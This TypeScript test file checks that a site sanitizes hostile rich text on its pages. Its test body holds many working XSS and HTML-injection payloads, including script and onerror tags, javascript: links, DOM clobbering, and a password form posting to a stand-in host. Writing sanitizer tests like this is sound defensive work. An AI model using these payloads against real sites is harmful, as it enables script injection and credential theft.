// Hostile rich text on a page: no scripts, no external resources, no spoofed page elements.
import t from 'tap'
import { elementsOf } from '../../helpers/elements.ts'
import { botAgent } from '../../helpers/site.ts'
import { createSmallSite } from '../../helpers/small-site.ts'
import { respondWithAll } from '../../helpers/whole-origin.ts'
import { words } from '../../helpers/words.ts'

const body = [
  '<script>alert(1)</script><scr<script>ipt>alert(1)</scr</script>ipt><script src=//evil.example></script>',
  '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg><math><style><img src=x onerror=alert(1)></style></math>',
  '<p style="position:fixed;inset:0" onclick="alert(1)" class="error-page" data-page="x">fixed</p><style>*{display:none}</style>',
  '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><a href="//evil.example">c</a><a href="&#x6a;avascript:x">d</a>',
  '<form action="//evil.example"><input name="password"><button formaction="javascript:x">go</button></form>',
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="//evil.example">',
  '</div></article></main></body></html><h2 id="data">clobbered</h2><!-- --><![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\u2028</script>',
].join('')
const rich = ['/en/news/1', '/en/detail_second', '/en/about', '/en/contact', '/en/manual/1', '/en/news/1/4']

const tags = words('script style iframe svg math form input button base meta link noscript img main')

t.test('hostile rich text', async (t) => {
  const [plainSite, site] = [await createSmallSite(t), await createSmallSite(t)]
  respondWithAll(plainSite.origin, (value, field) => (field === 'body' ? '<p>plain</p>' : value))
  respondWithAll(site.origin, (value, field) => (field === 'body' ? body : value))
  for (const url of rich) {
    const plain = (await plainSite.get(url, { 'user-agent': botAgent })).body
    const { statusCode, body: html } = await site.get(url, { 'user-agent': botAgent })
    t.equal(statusCode, 200)
    const elements = elementsOf(html)
    const count = (all: typeof elements, tag: string) => all.filter(({ name }) => name === tag).length
    for (const tag of tags)
      t.ok(count(elements, tag) <= count(elementsOf(plain), tag) + (tag === 'img' ? 1 : 0), `${url} ${tag}`)
    for (const { name, attributes } of elements)
      for (const [attribute, value] of Object.entries(attributes))
        if (
          /^on|^style$|^srcdoc$/.test(attribute) ||
          (attribute !== 'title' && /evil|alert|javascript:/i.test(value))
        )
          t.fail(`${url}: <${name} ${attribute}="${value}">`)
    for (const [key, value] of [
      ['data-page', /./],
      ['id', /^data$/],
    ] as const)
      t.equal(elements.filter(({ attributes }) => value.test(attributes[key] ?? '')).length, 1, `one ${key}`)
    t.match(html, 'clobbered', 'what is harmless is kept')
    t.ok(html.indexOf('clobbered') < html.indexOf('</main>'), 'and stays where it belongs')
  }
})
